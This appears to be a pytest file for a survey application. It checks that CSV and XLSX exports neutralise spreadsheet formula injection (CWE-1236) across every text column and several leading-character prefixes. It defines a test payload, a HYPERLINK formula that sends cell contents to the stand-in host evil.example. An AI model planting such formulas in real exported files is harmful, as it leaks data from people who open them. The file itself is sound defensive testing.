"""Every text cell of every CSV/XLSX export is formula-safe (CWE-1236)."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime

import pytest
from openpyxl import load_workbook

from scoring.exchange import ResponseRecord, read_responses, write_csv, write_xlsx
from scoring.result import from_dict
from survey.extensions import db
from survey.services import exports, fieldwork

from . import admin_support as support

PREFIXES = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]
PAYLOAD = 'HYPERLINK("http://evil.example/?x="&A1,"click")'
DANGEROUS = tuple(PREFIXES)


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_csv_safe(data: bytes) -> None:
    for row in csv_cells(data):
        for cell in row:
            assert not cell.startswith(DANGEROUS), repr(cell)


def assert_xlsx_safe(data: bytes) -> list[tuple]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)
    book = load_workbook(io.BytesIO(data), read_only=True)
    return [tuple(r) for r in book.worksheets[0].iter_rows(values_only=True)]


def record(prefix: str, column: str, framework_spec) -> ResponseRecord:  # type: ignore[no-untyped-def]
    fields = {
        "response_id": "r1",
        "street": "宁海路",
        "group": "adult",
        "channel": "paper",
        "comment": "ok",
    }
    fields[column] = prefix + PAYLOAD
    concerns = (prefix + "I07",) if column == "concerns" else ()
    return ResponseRecord(
        response_id=fields["response_id"],
        street=fields["street"],
        group=fields["group"],
        submitted_at=datetime(2026, 3, 1, 9),
        channel=fields["channel"],
        weight=1.0,
        answers={c: 4 for c in framework_spec.indicator_codes},
        concerns=concerns,
        comment=fields["comment"],
    )


TEXT_COLUMNS = ["response_id", "street", "group", "channel", "concerns", "comment"]


@pytest.mark.parametrize("column", TEXT_COLUMNS)
@pytest.mark.parametrize("prefix", PREFIXES)
def test_responses_export_neutralises_every_text_column(framework_spec, prefix, column):
    rec = record(prefix, column, framework_spec)
    assert_csv_safe(write_csv([rec], framework_spec))
    rows = assert_xlsx_safe(write_xlsx([rec], framework_spec))
    header = rows[0]
    value = rows[1][header.index(column)]
    planted = ";".join(rec.concerns) if column == "concerns" else prefix + PAYLOAD
    # XLSX keeps the text as a string (without lxml, XML turns a bare CR into LF)
    assert value in (planted, planted.replace("\r", "\n"))


@pytest.mark.parametrize("prefix", PREFIXES)
def test_scores_table_neutralises_text(framework_spec, prefix):
    doc = {
        "streets": [
            {
                "street": prefix + PAYLOAD,
                "n": 40,
                "score": 80.0,
                "ci_low": -1.5,
                "ci_high": 90.0,
                "rank": 1,
                "rank_low": 1,
                "rank_high": 2,
                "band": prefix + "x",
                "dimensions": {},
            }
        ],
        "district": {},
    }
    header, rows = exports.scores_table(from_dict(doc), framework_spec)
    data = exports.table_csv(header, rows)
    assert_csv_safe_text = csv_cells(data)[1]
    assert assert_csv_safe_text[0] == "'" + prefix + PAYLOAD
    assert assert_csv_safe_text[3] == "-1.5"  # a negative number stays a number
    assert_xlsx_safe(exports.table_xlsx(header, rows))


def test_links_and_progress_csv_are_safe(app, make_wave):
    data = fieldwork.links_csv(["-token1", "=token2"])
    rows = csv_cells(data)
    assert rows[1][0] == "'-token1" and rows[2][0] == "'=token2"
    wave = make_wave("w-cells")
    wave.district.streets[0].name = "=" + PAYLOAD
    db.session.flush()
    assert_csv_safe(fieldwork.progress_csv(wave))


@pytest.mark.parametrize("prefix", ["=", "\uff1d", "\uff20"])
def test_comment_round_trip_still_works(framework_spec, prefix):
    rec = record(prefix, "comment", framework_spec)
    back = read_responses(write_csv([rec], framework_spec), framework_spec, fmt="csv")
    assert back[0].comment == prefix + PAYLOAD
    back = read_responses(write_xlsx([rec], framework_spec), framework_spec, fmt="xlsx")
    assert back[0].comment == prefix + PAYLOAD and back[0].response_id == "r1"


def test_console_download_has_no_formula(client, make_wave, make_user):
    from survey.services.frameworks import spec_of
    from survey.services.responses import insert_records

    wave = make_wave("w-fx")
    spec = spec_of(wave.framework)
    rec = record("@", "response_id", spec)
    insert_records(wave, [rec])
    support.sign_in(client, make_user("admin", username="admin-fx"))
    for fmt in ("csv", "xlsx"):
        response = support.call(client, "GET", f"/admin/waves/w-fx/export/responses.{fmt}")
        assert response.status_code == 200
        if fmt == "csv":
            assert_csv_safe(response.data)
            assert csv_cells(response.data)[1][0] == "'@" + PAYLOAD
        else:
            assert assert_xlsx_safe(response.data)[1][0] == "@" + PAYLOAD
